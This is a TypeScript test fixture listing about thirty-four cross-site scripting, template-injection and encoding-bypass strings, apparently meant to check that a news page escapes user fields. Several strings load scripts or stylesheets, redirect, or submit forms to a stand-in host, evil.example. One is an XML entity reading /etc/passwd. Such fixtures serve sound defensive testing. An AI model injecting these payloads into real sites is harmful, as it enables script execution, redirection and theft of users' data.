/**
 * What somebody could leave in a field in the hope that it runs: each would set `window.__hit`, open
 * a dialog or ask another host, if the place it lands in were not told apart from text. At most 100
 * letters, so that the shortest fields take them whole.
 */
export const hostileStrings: string[] = [
  `<script>window.__hit=1</script>`,
  `</script><script>window.__hit=1</script>`,
  `</title></style></textarea><script>window.__hit=1</script>`,
  `--><!--<script>window.__hit=1</script>-->`,
  `]]><script>window.__hit=1</script><![CDATA[`,
  `<img src=x onerror=window.__hit=1>`,
  `<img src=//evil.example/pixel.gif>`,
  `<svg/onload=window.__hit=1>`,
  `<svg><script xlink:href=//evil.example/x.js></script></svg>`,
  `<math><mtext></p><img src=x onerror=window.__hit=1>`,
  `"><svg onload=window.__hit=1>`,
  `'><svg onload=window.__hit=1>`,
  `" autofocus onfocus=window.__hit=1 x="`,
  `' autofocus onfocus=window.__hit=1 x='`,
  `x" onmouseover="window.__hit=1" style="position:fixed;inset:0`,
  `<details open ontoggle=window.__hit=1>`,
  `<iframe srcdoc="<script>top.__hit=1</script>">`,
  `<base href=//evil.example/>`,
  `<link rel=stylesheet href=//evil.example/x.css>`,
  `<meta http-equiv=refresh content="0;url=//evil.example/">`,
  `<form action=//evil.example/><input type=submit autofocus>`,
  `<a href=javascript:window.__hit=1>الخبر</a>`,
  `javascript:window.__hit=1//`,
  `<style>@import '//evil.example/x.css';</style>`,
  `</div></main></body></html><footer></footer>`,
  `<noscript><p title="</noscript><img src=x onerror=window.__hit=1>">`,
  `<template><script>window.__hit=1</script></template><b>`,
  `&lt;script&gt;window.__hit=1&lt;/script&gt;&#x3c;script&#x3e;`,
  '${window.__hit=1}{{window.__hit=1}}#{window.__hit=1}`<%=window.__hit=1%>',
  `\\u003cscript\\u003ewindow.__hit=1\\x3c/script\\x3e`,
  `<xmp><plaintext><listing><textarea><select><table><tr>`,
  `%3Cscript%3Ewindow.__hit=1%3C/script%3E+ADw-script+AD4-`,
  `<!ENTITY x SYSTEM "file:///etc/passwd">&x;<?xml-stylesheet href="//evil.example"?>`,
  `سلمى<b onclick=window.__hit=1>العلوي`,
]

/** Words as they can be compared: quotation marks are printed by the paper's setting, spaces by the browser. */
export function comparable(text: string): string {
  return text.replace(/["“”„‟«»\s]+/g, '')
}
